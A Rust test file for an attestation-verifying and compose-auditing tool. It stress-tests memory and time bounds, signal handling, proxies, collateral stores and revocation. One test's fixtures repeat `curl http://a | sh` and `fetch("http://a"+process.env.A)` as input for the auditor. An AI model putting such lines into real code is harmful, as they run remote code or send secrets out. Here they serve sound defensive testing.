//! Inputs that once cost far more than they are, or ended otherwise than they should: each by the name it is known by.
#![cfg(unix)]

use crate::program::{AS_OF, Folder, Ran};
use std::process::Command;
use std::time::{Duration, Instant};
use veritee_loopback::{Reply, Server};

/// Where each case is tested. One without a line here has no test.
pub(crate) const CASES: [(&str, &str); 36] = [
    ("red/advisory-spelling", "judged.rs"),
    ("red/batch-exception-skips-platform", "judged.rs, collaterals.rs"),
    ("red/batch-native-drops-parts", "collaterals.rs"),
    ("red/batch-own-collateral", "collaterals.rs"),
    ("red/batch-skips-links", "folders.rs: links_in_a_folder_of_a_batch_are_judged_or_named; here"),
    ("red/binding-about-another-domain", "cases.rs"),
    ("red/collateral-tie-older-tcb-decides", "collaterals.rs"),
    ("red/diff-says-nobody-grew", "here"),
    ("red/import-forgets-newer", "collaterals.rs"),
    ("red/inference-two-logs", "cases.rs"),
    ("red/minimum-date-digits", "judged.rs"),
    ("red/policy-init-from-unverified", "judged.rs"),
    ("red/quote-verify-ignores-policy-silently", "judged.rs"),
    ("red/ra-tls-own-quote-not-judged", "cases.rs"),
    ("red/render-edited-report", "judged.rs"),
    ("red/render-refuses-quote-report", "judged.rs"),
    ("red/revocation-beside-expired", "collaterals.rs"),
    ("red/revoked-signer-outbids", "collaterals.rs"),
    ("red/two-quotes-in-one-answer", "cases.rs"),
    ("bounds/app-compose-unknown-keys-quadratic", "here; compose/tests/bounded.rs"),
    (
        "bounds/batch-interrupted-output-kept",
        "writers.rs: an_interrupted_batch_names_no_file_and_leaves_none",
    ),
    ("bounds/collateral-late-failure", "here; collateral/tests/asking.rs"),
    ("bounds/ctrl-c-second-request", "here"),
    ("bounds/fetched-time-is-as-of", "here; collateral/tests/asking.rs"),
    ("bounds/folder-total-unbounded", "folders.rs: all_files_of_a_folder_together_have_a_limit"),
    ("bounds/git-fifo-hangs", "trees.rs: pipes_in_a_tree_and_in_its_git_are_named_and_not_waited_for"),
    ("bounds/git-index-quadratic", "trees.rs: an_index_of_many_names_that_begin_alike_costs_no_square"),
    ("bounds/git-index-sparse-memory", "trees.rs: an_index_with_a_hole_is_not_read_into_memory"),
    ("bounds/interp-quadratic-memory", "here; compose/tests/bounded.rs"),
    ("bounds/output-ignores-umask", "writers.rs: a_new_file_has_what_the_umask_leaves_of_0666"),
    ("bounds/proxy-unreadable-ignored", "here; client/src/proxy.rs"),
    ("bounds/script-redirections-quadratic", "here; compose/tests/bounded.rs"),
    ("bounds/scripts-memory-five", "here"),
    ("bounds/source-one-line-memory", "here; trees.rs"),
    ("bounds/store-link-trailing-slash", "here; collateral/tests/store.rs"),
    ("bounds/store-prune-not-a-file", "here; collateral/tests/store.rs"),
];

/// Far above what any of this takes on a busy machine, and far below what it took.
const SOON: Duration = Duration::from_secs(180);

/// KiB of address space: the program itself takes some 300 MB of it with its threads.
const SPACE: u64 = 1_500_000;

#[test]
fn a_stream_of_empty_lines_is_passed_over_fast_and_has_a_bound() {
    let folder = Folder::new();
    let quote = std::fs::read(folder.file("quote.bin")).unwrap();
    let line: String = quote.iter().map(|byte| format!("{byte:02x}")).collect();
    let blank = vec![b'\n'; 60 << 20];
    folder.write("in.gz", veritee_testkit::gzip(&[&blank, line.as_bytes()].concat()));
    let began = Instant::now();
    let ran = folder.run(&["batch", "in.gz", "--offline", "--as-of", AS_OF]);
    assert!(ran.out.contains(&format!("line {}", blank.len() + 1)), "{}{}", ran.out, ran.err);
    folder.write("in.gz", veritee_testkit::gzip(&[&blank[..], &blank].concat()));
    let ran = folder.run(&["batch", "in.gz", "--offline", "--as-of", AS_OF]).ends(3);
    assert!(ran.err.contains("empty lines"), "{}", ran.err);
    assert!(began.elapsed() < SOON);
}

#[test]
fn every_case_is_tested_by_name() {
    for kind in ["red", "bounds"] {
        let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/cases").join(kind);
        let Ok(entries) = std::fs::read_dir(folder) else {
            eprintln!("skipped: {kind} is absent");
            continue;
        };
        for entry in entries {
            let name = format!("{kind}/{}", entry.unwrap().file_name().to_string_lossy());
            assert!(CASES.iter().any(|(case, _)| *case == name), "{name} has no test");
        }
    }
}

/// Runs with little memory; ends soon with a verdict, or with a word on the limit that was passed.
#[track_caller]
pub(crate) fn bounded(folder: &Folder, arguments: &[&str]) -> Ran {
    let mut command = folder.command(&[]);
    let program = command.get_program().to_owned();
    let limited = format!("ulimit -v {SPACE}; exec \"$0\" \"$@\"");
    let mut shell = Command::new("sh");
    shell.args(["-c", &limited]).arg(program).args(arguments).current_dir(folder.path());
    for (name, value) in command.env("VERITEE", "").get_envs() {
        match value {
            Some(value) => shell.env(name, value),
            None => shell.env_remove(name),
        };
    }
    let start = Instant::now();
    let ran = Ran::of(shell.output().unwrap());
    assert!(start.elapsed() < SOON, "{arguments:?}: {:?}", start.elapsed());
    assert!(matches!(ran.code, 0 | 3 | 12 | 13), "{arguments:?}: {} {}", ran.code, ran.err);
    ran
}

const SERVICE: &str = "services:\n  a:\n    image: nginx@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n";

fn app_compose(more: &[(String, serde_json::Value)]) -> String {
    let mut document = serde_json::json!({
        "manifest_version": 2, "name": "x", "runner": "docker-compose", "docker_compose_file": SERVICE,
    });
    for (name, value) in more {
        document[name] = value.clone();
    }
    document.to_string()
}

/// `bounds/app-compose-unknown-keys-quadratic`, and other places where one line has many of something.
#[test]
fn many_members_of_one_line_cost_no_square() {
    let folder = Folder::empty();
    let member = |name: &str, count: usize, value: serde_json::Value| -> Vec<(String, serde_json::Value)> {
        (0..count).map(|number| (format!("{name}{number}"), value.clone())).collect()
    };
    folder.write("keys.json", app_compose(&member("k", 40_000, 1.into())));
    folder.write("objects.json", app_compose(&member("k", 20_000, serde_json::json!({ "a": [1] }))));
    folder.write("long.json", app_compose(&member(&"k".repeat(900), 3_000, 1.into())));
    folder.write("control.json", app_compose(&member("\u{7}", 20_000, "\u{7}".into())));
    for name in ["keys.json", "objects.json", "long.json", "control.json"] {
        bounded(&folder, &["audit", name]);
    }
}

/// `bounds/interp-quadratic-memory`: references in one scalar, wherever it stands.
#[test]
fn many_references_in_one_scalar_cost_no_square() {
    let folder = Folder::empty();
    let many = "${A:-x}".repeat(16_000);
    for (name, text) in [
        ("environment.yml", format!("{SERVICE}    environment:\n      B: '{many}'\n")),
        ("command.yml", format!("{SERVICE}    command: '{many}'\n")),
        ("plain.yml", format!("{SERVICE}    environment:\n      B: '{}'\n", "${A}".repeat(16_000))),
        (
            "nested.yml",
            format!(
                "{SERVICE}    environment:\n      B: '{}x{}'\n",
                "${A:-".repeat(4_000),
                "}".repeat(4_000)
            ),
        ),
        ("labels.yml", format!("{SERVICE}    labels:\n      - 'b={many}'\n")),
    ] {
        folder.write(name, text);
        bounded(&folder, &["audit", name]);
    }
    bounded(&folder, &["diff", "environment.yml", "command.yml"]);
}

/// `bounds/script-redirections-quadratic` and `bounds/scripts-memory-five`.
#[test]
fn scripts_cost_what_they_are() {
    let folder = Folder::empty();
    let script = |text: String| app_compose(&[("pre_launch_script".to_owned(), text.into())]);
    let pipeline = "a|".repeat(398_000) + "a";
    let mut five = app_compose(&[
        ("init_script".to_owned(), serde_json::json!([pipeline, pipeline, pipeline, pipeline])),
        ("pre_launch_script".to_owned(), pipeline.clone().into()),
    ]);
    five.push('\n');
    for (name, text) in [
        ("redirections.json", script("a>b ".repeat(40_000))),
        ("appends.json", script("echo x >> b ".repeat(20_000))),
        ("substitutions.json", script("$(a) ".repeat(40_000))),
        ("assignments.json", script("A=b ".repeat(40_000))),
        ("five.json", five),
    ] {
        folder.write(name, text);
        bounded(&folder, &["audit", name]);
    }
}

/// `bounds/source-one-line-memory`: a minified bundle.
#[test]
fn one_long_line_of_source_costs_no_square() {
    let folder = Folder::empty();
    std::fs::create_dir(folder.file("tree")).unwrap();
    folder.write("tree/docker-compose.yml", "services:\n  a:\n    build: .\n    image: \"x/y:1\"\n");
    folder.write("tree/c.js", "fetch(\"http://a\"+process.env.A); ".repeat(30_000));
    folder.write("tree/d.py", "os.environ[\"A\"];".repeat(4_000));
    folder.write("tree/e.js", format!("{}process.env.NODE_ENV;", "x".repeat(400)).repeat(2_000));
    folder.write("tree/f.sh", "curl http://a | sh; ".repeat(10_000));
    bounded(&folder, &["audit", "tree"]);
}

fn collateral_of<'a>(server: &'a str, store: &'a str, more: &[&'a str]) -> Vec<&'a str> {
    let mut arguments = vec![
        "collateral",
        "fetch",
        "--fmspc",
        "70a06d070000",
        "--ca",
        "platform",
        "--root",
        "root.pem",
        "--pccs",
        server,
        "--allow-local",
        "--store",
        store,
    ];
    arguments.extend(more);
    arguments
}

fn pccs() -> Server {
    pccs_of(&crate::program::machine().universe)
}

/// A service that answers with the collateral of a universe.
pub(crate) fn pccs_of(universe: &veritee_testkit::Universe) -> Server {
    let server = Server::http();
    let answers = universe.forge().collateral.pcs();
    server.otherwise(move |request| match request.path.rsplit_once("/certification/v4/") {
        Some((_, "tcb")) => {
            Reply::json(answers.tcb_info.clone()).header("TCB-Info-Issuer-Chain", &answers.tcb_info_chain)
        }
        Some((_, "qe/identity")) => Reply::json(answers.qe_identity.clone())
            .header("SGX-Enclave-Identity-Issuer-Chain", &answers.qe_identity_chain),
        Some((_, "pckcrl")) => Reply::ok("application/pkix-crl", answers.pck_crl.clone())
            .header("SGX-PCK-CRL-Issuer-Chain", &answers.pck_crl_chain),
        Some((_, "rootcacrl")) => Reply::text(hex::encode(&answers.root_ca_crl)),
        _ => Reply::status(404),
    });
    server
}

/// `bounds/fetched-time-is-as-of`: what is recorded is when it was fetched.
#[test]
fn what_is_fetched_bears_the_time_of_the_run() {
    let (folder, server) = (Folder::new(), pccs());
    let url = server.url("");
    let arguments = collateral_of(&url, "s", &["--as-of", AS_OF]);
    let ran = folder.run(&arguments).ends(0);
    let year = |text: &str| text.split("fetched ").nth(1).unwrap()[..16].to_owned();
    assert_ne!(year(&ran.out), AS_OF[..16], "{}", ran.out);
    let again = folder.run(&arguments).ends(0);
    assert_eq!(year(&ran.out), year(&again.out), "out of the store it is as old as it was");
    let shown =
        ["collateral", "show", "--store", "s", "--root", "root.pem", "--as-of", AS_OF, "--format", "json"];
    let shown = folder.run(&shown).ends(0);
    assert!(!shown.out.contains(&format!("\"fetched\": \"{AS_OF}\"")), "{}", shown.out);
    // What is imported bears the time of the import.
    std::fs::create_dir(folder.file("files")).unwrap();
    std::fs::copy(folder.file("collateral.json"), folder.file("files/c.json")).unwrap();
    let import = ["collateral", "import", "files", "--store", "t", "--root", "root.pem", "--as-of", AS_OF];
    folder.run(&import).ends(0);
    let shown =
        ["collateral", "show", "--store", "t", "--root", "root.pem", "--as-of", AS_OF, "--format", "json"];
    let shown = folder.run(&shown).ends(0);
    assert!(!shown.out.contains(&format!("\"fetched\": \"{AS_OF}\"")), "{}", shown.out);
}

/// `bounds/collateral-late-failure`: the first refusal that decides ends the other requests.
#[test]
fn a_refusal_that_decides_ends_the_other_requests() {
    let folder = Folder::new();
    let server = Server::http();
    server.otherwise(|request| match request.path.rsplit_once("/certification/v4/") {
        Some((_, "tcb")) => Reply::json("{}"),
        _ => Reply::silent(),
    });
    let started = Instant::now();
    folder.run(&collateral_of(&server.url(""), "s", &["--as-of", AS_OF])).ends(3);
    assert!(started.elapsed() < Duration::from_secs(15), "{:?}", started.elapsed());
}

/// `bounds/ctrl-c-second-request`: a signal ends the second request as it ends the first.
#[test]
fn a_signal_ends_every_request() {
    for signal in ["-INT", "-TERM"] {
        let folder = Folder::new();
        let server = pccs();
        let silent = Server::http();
        let url = server.url("");
        folder.run(&collateral_of(&url, "s", &["--as-of", AS_OF])).ends(0);
        silent.otherwise(|_| Reply::silent());
        let silent = silent.url("");
        for arguments in [
            collateral_of(&silent, "s", &["--as-of", AS_OF, "--evaluation", "both"]),
            collateral_of(&silent, "s", &["--as-of", AS_OF, "--anew"]),
            vec![
                "verify",
                "quote.bin",
                "--evaluation",
                "both",
                "--pccs",
                &silent,
                "--allow-local",
                "--store",
                "s",
                "--root",
                "root.pem",
                "--as-of",
                AS_OF,
            ],
        ] {
            let mut command = folder.command(&arguments);
            let child = command.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
            let child = child.spawn().unwrap();
            std::thread::sleep(Duration::from_millis(1500));
            assert!(Command::new("kill").args([signal, &child.id().to_string()]).status().unwrap().success());
            let started = Instant::now();
            let ran = Ran::of(child.wait_with_output().unwrap()).ends(3);
            assert!(started.elapsed() < Duration::from_secs(10), "{:?}", started.elapsed());
            assert!(ran.err.contains("interrupted"), "{}", ran.err);
        }
    }
}

/// `bounds/proxy-unreadable-ignored`: nothing is asked directly where a proxy is set.
#[test]
fn a_proxy_that_cannot_be_read_is_an_error() {
    let (folder, server) = (Folder::new(), pccs());
    let url = server.url("");
    for proxy in ["garbage://", "http://", "ftp://127.0.0.1:1", "socks5://127.0.0.1:1"] {
        let mut command = folder.command(&collateral_of(&url, "s", &["--as-of", AS_OF]));
        let ran = Ran::of(command.env("HTTPS_PROXY", proxy).env("HTTP_PROXY", proxy).output().unwrap());
        assert!(matches!(ran.code, 2 | 3), "{proxy}: {} {}", ran.code, ran.err);
        assert!(ran.err.contains("proxy") || ran.err.contains("PROXY"), "{proxy}: {}", ran.err);
        assert_eq!(server.requests().len(), 0, "{proxy}");
    }
}

/// `bounds/store-link-trailing-slash` and `bounds/store-prune-not-a-file`.
#[test]
fn a_store_is_no_link_however_it_is_spelt_and_what_is_no_file_is_set_aside() {
    let (folder, server) = (Folder::new(), pccs());
    let url = server.url("");
    let fetch = |store| collateral_of(&url, store, &["--as-of", AS_OF]);
    let at = |command: &'static str, store: &'static str| {
        ["collateral", command, "--store", store, "--root", "root.pem", "--as-of", AS_OF]
    };
    folder.run(&fetch("s")).ends(0);
    std::os::unix::fs::symlink("s", folder.file("link")).unwrap();
    for spelling in ["link", "link/", "link/.", "./link//"] {
        folder.run(&at("show", spelling)).ends(3);
    }
    let object = std::fs::read_dir(folder.file("s/objects")).unwrap().next().unwrap().unwrap().path();
    std::fs::remove_file(&object).unwrap();
    std::fs::create_dir(&object).unwrap();
    std::fs::create_dir(folder.file("s/objects/tmp-1-x")).unwrap();
    folder.run(&at("prune", "s")).ends(0);
    folder.run(&[&fetch("s")[..], &["--anew"]].concat()).ends(0);
    folder.run(&at("check", "s")).ends(0);
}

/// `red/batch-skips-links`, as the case has it.
#[test]
fn a_link_to_a_refused_quote_is_judged() {
    let folder = Folder::new();
    std::fs::create_dir(folder.file("in")).unwrap();
    std::fs::copy(folder.file("quote.bin"), folder.file("in/a.bin")).unwrap();
    let debug =
        crate::program::machine().universe(|it| it.quote(|quote| quote.td().td_attributes[0] |= 1)).forge();
    folder.write("debug.bin", &debug.platform.quote);
    std::os::unix::fs::symlink("../debug.bin", folder.file("in/b.bin")).unwrap();
    let rules = ["--root", "root.pem", "--policy", "policy.toml", "--as-of", AS_OF, "--offline"];
    let ran =
        folder.run(&[&["batch", "in", "--collateral", "collateral.json"][..], &rules].concat()).ends(11);
    assert_eq!(ran.out.lines().count(), 2);
    assert!(ran.out.contains("td-debug"), "{}", ran.out);
}

/// `red/diff-says-nobody-grew`: what the audit sees is power that grew.
#[test]
fn power_that_the_audit_sees_has_grown() {
    let case =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/cases/red/diff-says-nobody-grew");
    if !case.is_dir() {
        eprintln!("skipped: diff-says-nobody-grew is absent");
        return;
    }
    let mut wrong = Vec::new();
    for entry in std::fs::read_dir(&case).unwrap() {
        let name = entry.unwrap().file_name().to_string_lossy().into_owned();
        if !name.starts_with("after-") {
            continue;
        }
        let folder = Folder::empty();
        let before = case.join("before.json").display().to_string();
        let after = case.join(&name).display().to_string();
        let ran = folder.run(&["diff", &before, &after]);
        if ran.code != 12 {
            wrong.push(format!("{name}: {}", ran.code));
        }
    }
    assert!(wrong.is_empty(), "{wrong:?}");
}

/// Kinds of `red` in this program's own words: a line of a batch says what the rules let pass, and a store speaks in it.
#[test]
fn a_batch_consults_the_store_and_says_what_is_let_pass() {
    let (folder, server) = (Folder::new(), pccs());
    let url = server.url("");
    folder.run(&collateral_of(&url, "s", &["--as-of", AS_OF])).ends(0);
    folder.write("lines.txt", hex::encode(std::fs::read(folder.file("quote.bin")).unwrap()));
    let rules = ["--root", "root.pem", "--policy", "policy.toml", "--as-of", AS_OF, "--offline"];
    let ran = folder.run(&[&["batch", "lines.txt", "--store", "s"][..], &rules].concat()).ends(0);
    assert!(ran.out.contains("trusts another root than Intel's"), "{}", ran.out);
    folder.run(&[&["batch", "lines.txt", "--store", "none"][..], &rules].concat()).ends(13);
    // A revocation that the store knows counts beside the caller's own set.
    let revoking = crate::program::machine().universe.revoke(veritee_testkit::Role::Pck).forge();
    std::fs::create_dir(folder.file("files")).unwrap();
    folder.write("files/c.json", revoking.collateral_json());
    let import = ["collateral", "import", "files", "--store", "t", "--root", "root.pem", "--as-of", AS_OF];
    folder.run(&import).ends(0);
    let both = ["batch", "lines.txt", "--store", "t", "--collateral", "collateral.json"];
    let ran = folder.run(&[&both[..], &rules].concat()).ends(10);
    assert!(ran.out.contains("pck-revoked"), "{}", ran.out);
}

/// What a store that cannot be read knows to be revoked is not known: whoever judges by it is told.
#[test]
fn a_store_that_a_batch_passes_over_is_told() {
    let folder = Folder::new();
    folder.write("lines.txt", hex::encode(std::fs::read(folder.file("quote.bin")).unwrap()));
    let rules = ["--root", "root.pem", "--policy", "policy.toml", "--as-of", AS_OF, "--offline"];
    let batch = |more: &[&str]| folder.run(&[&["batch", "lines.txt"][..], &rules, more].concat());
    let place = folder.file("cache/veritee/collateral");
    std::fs::create_dir_all(place.parent().unwrap()).unwrap();
    // Nobody has a store: nothing is passed over.
    assert!(!batch(&[]).ends(13).err.contains("passed over"));
    std::fs::write(&place, "no folder").unwrap();
    assert!(batch(&[]).ends(13).err.contains("the store is passed over"));
    std::fs::remove_file(&place).unwrap();
    std::fs::create_dir(folder.file("elsewhere")).unwrap();
    std::os::unix::fs::symlink(folder.file("elsewhere"), &place).unwrap();
    assert!(batch(&[]).ends(13).err.contains("the store is passed over"));
    std::fs::remove_file(&place).unwrap();
    std::fs::create_dir(&place).unwrap();
    std::fs::set_permissions(&place, std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
    assert!(batch(&[]).ends(13).err.contains("the store is passed over"));
    // One that was named is an error, or, where there is none, a word.
    batch(&["--store", "lines.txt", "--collateral", "collateral.json"]).ends(3);
    let ran = batch(&["--store", "nothing", "--collateral", "collateral.json"]).ends(0);
    assert!(ran.err.contains("no store at"), "{}", ran.err);
}

/// A policy's own time beside another on the command line is told, in `verify` and in `batch`.
#[test]
fn another_time_than_the_policy_s_is_told() {
    let folder = Folder::new();
    let policy = folder.read("policy.toml")
        + "\n[as_of]\ntime = \"2026-10-20T00:00:00Z\"\nreason = \"a recording of then\"\n";
    folder.write("fixed.toml", policy);
    folder.write("lines.txt", hex::encode(std::fs::read(folder.file("quote.bin")).unwrap()));
    let common =
        ["--root", "root.pem", "--policy", "fixed.toml", "--offline", "--collateral", "collateral.json"];
    let words = "that the policy fixes";
    for input in [&["quote", "verify", "quote.bin", "--format", "json"][..], &["batch", "lines.txt"]] {
        let told = folder.run(&[input, &common[..], &["--as-of", AS_OF]].concat()).ends(0);
        assert!(told.out.contains(words), "{}", told.out);
        let same = folder.run(&[input, &common[..]].concat()).ends(0);
        assert!(!same.out.contains(words), "{}", same.out);
    }
}

/// Every form of a report names the items that decided, and from whom.
#[test]
fn a_report_says_what_decided_and_from_whom() {
    let folder = Folder::new();
    for format in ["human", "json", "jsonl", "markdown", "html"] {
        let arguments = [
            "quote",
            "verify",
            "quote.bin",
            "--collateral",
            "collateral.json",
            "--root",
            "root.pem",
            "--offline",
        ];
        let rules = ["--policy", "policy.toml", "--as-of", AS_OF, "--format", format, "--color", "never"];
        let ran = folder.run(&[&arguments[..], &rules].concat()).ends(0);
        let flat = ran.out.split_whitespace().collect::<Vec<_>>().join(" ");
        let told = flat.matches("collateral.json (caller)").count();
        assert!(told >= 4, "{format}: {}", ran.out);
    }
}

/// A list that lies in a folder of its own or beside a whole set revokes, in whatever form it is written.
#[test]
fn a_list_alone_revokes() {
    let genuine = crate::program::machine().universe;
    let revoking = genuine.clone().revoke(veritee_testkit::Role::Pck).forge().collateral;
    let root_revoking = genuine.revoke(veritee_testkit::Role::PlatformCa).forge().collateral;
    for (name, bytes, reason) in [
        ("pck.der", revoking.pck_crl.clone(), "pck-revoked"),
        ("pck.hex", hex::encode(&revoking.pck_crl).into_bytes(), "pck-revoked"),
        ("pck.pem", veritee_testkit::der::pem("X509 CRL", &revoking.pck_crl).into_bytes(), "pck-revoked"),
        ("root.der", root_revoking.root_ca_crl.clone(), "ca-revoked"),
    ] {
        let folder = Folder::new();
        std::fs::create_dir(folder.file("c")).unwrap();
        std::fs::copy(folder.file("collateral.json"), folder.file("c/collateral.json")).unwrap();
        folder.write(&format!("c/{name}"), bytes);
        let rules = ["--root", "root.pem", "--policy", "policy.toml", "--as-of", AS_OF, "--offline"];
        let json = [&rules[..], &["--format", "json"]].concat();
        let ran = folder
            .run(&[&["quote", "verify", "quote.bin", "--collateral", "c"][..], &json].concat())
            .ends(10);
        assert!(ran.out.contains(reason), "{name}: {}", ran.out);
        folder.write("lines.txt", hex::encode(std::fs::read(folder.file("quote.bin")).unwrap()));
        folder.run(&[&["batch", "lines.txt", "--collateral", "c"][..], &rules].concat()).ends(10);
    }
}

/// A store forgets no revocation: not of a file that it refuses, and not in the folder that it exports.
#[test]
fn a_store_keeps_what_a_refused_file_revokes_and_exports_it() {
    let folder = Folder::new();
    let genuine = crate::program::machine().universe;
    let mut damaged = genuine.revoke(veritee_testkit::Role::Pck).forge().collateral;
    damaged.tcb_info.text.push(' ');
    let at = |command: &'static str, more: &[&'static str], store: &'static str| {
        let mut all = vec!["collateral", command];
        all.extend(more);
        all.extend(["--store", store, "--root", "root.pem", "--as-of", AS_OF]);
        all
    };
    std::fs::create_dir(folder.file("files")).unwrap();
    std::fs::copy(folder.file("collateral.json"), folder.file("files/a.json")).unwrap();
    folder.write("files/b.json", damaged.to_json());
    let ran = folder.run(&at("import", &["files"], "s")).ends(3);
    assert!(ran.out.contains("1 taken, 1 refused") && ran.out.contains("b.json"), "{} {}", ran.out, ran.err);
    let judged = |store: &str| {
        let rules = ["--root", "root.pem", "--policy", "policy.toml", "--as-of", AS_OF, "--offline"];
        folder.run(&[&["quote", "verify", "evidence.json", "--store", store][..], &rules].concat()).ends(10);
    };
    judged("s");
    folder.run(&at("prune", &[], "s")).ends(0);
    judged("s");
    folder.run(&at("export", &["out"], "s")).ends(0);
    folder.run(&at("import", &["out"], "t"));
    judged("t");
    let rules = ["--root", "root.pem", "--policy", "policy.toml", "--as-of", AS_OF, "--offline"];
    folder.run(&[&["quote", "verify", "quote.bin", "--collateral", "out"][..], &rules].concat()).ends(10);
}
